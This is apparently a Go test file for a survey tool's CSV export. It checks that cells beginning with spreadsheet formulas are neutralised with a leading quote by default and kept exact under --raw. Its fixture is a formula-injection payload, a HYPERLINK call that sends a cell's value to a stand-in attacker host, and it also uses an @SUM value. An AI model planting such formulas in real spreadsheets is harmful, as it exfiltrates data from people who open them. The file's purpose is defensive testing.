package main

import (
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
)

const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// TestExportNeutralisesFormulas: the CLI's CSV is safe to open in a
// spreadsheet by default, exact with --raw, and the raw export imports
// back to the same responses. A neutralised export imports too, keeping
// the added quote as part of the answer (documented in
// docs/survey-format.md).
func TestExportNeutralisesFormulas(t *testing.T) {
	dsn := filepath.Join(t.TempDir(), "f.db")
	in := header(t) + "\n" + row(t, map[string]string{"response_id": "a1", "submitted_on": "2016-05-03",
		"benefits_comment": formula, "other_comments": "@SUM(1)", "region": "london"}) + "\n"
	if code, _, errOut := cli(t, "", "responses", "import", "--db", dsn, "--survey", slug, write(t, "in.csv", in)); code != 0 {
		t.Fatalf("import: %s", errOut)
	}
	cells := func(out string) map[string]string {
		t.Helper()
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("export: %d records, %v\n%s", len(recs), err, out)
		}
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = recs[1][i]
		}
		return m
	}
	_, safe, _ := cli(t, "", "responses", "export", "--db", dsn, "--survey", slug)
	if m := cells(safe); m["benefits_comment"] != "'"+formula || m["other_comments"] != "'@SUM(1)" || m["submitted_on"] != "2016-05-03" {
		t.Errorf("default export: %q %q %q", m["benefits_comment"], m["other_comments"], m["submitted_on"])
	}
	_, raw, _ := cli(t, "", "responses", "export", "--db", dsn, "--survey", slug, "--raw")
	if raw != in {
		t.Errorf("raw export differs from the file imported:\n got %q\nwant %q", raw, in)
	}
	again := filepath.Join(t.TempDir(), "again.db")
	if code, _, errOut := cli(t, "", "responses", "import", "--db", again, "--survey", slug, write(t, "raw.csv", raw)); code != 0 {
		t.Fatalf("import of raw export: %s", errOut)
	}
	if _, raw2, _ := cli(t, "", "responses", "export", "--db", again, "--survey", slug, "--raw"); raw2 != raw {
		t.Errorf("raw round trip differs:\n%q\n%q", raw2, raw)
	}
	// A neutralised export is still a valid file; the quote becomes part
	// of the answer.
	third := filepath.Join(t.TempDir(), "third.db")
	if code, _, errOut := cli(t, "", "responses", "import", "--db", third, "--survey", slug, write(t, "safe.csv", safe)); code != 0 {
		t.Fatalf("import of neutralised export: %s", errOut)
	}
	if _, raw3, _ := cli(t, "", "responses", "export", "--db", third, "--survey", slug, "--raw"); cells(raw3)["benefits_comment"] != "'"+formula {
		t.Errorf("neutralised import: %q", cells(raw3)["benefits_comment"])
	}
}
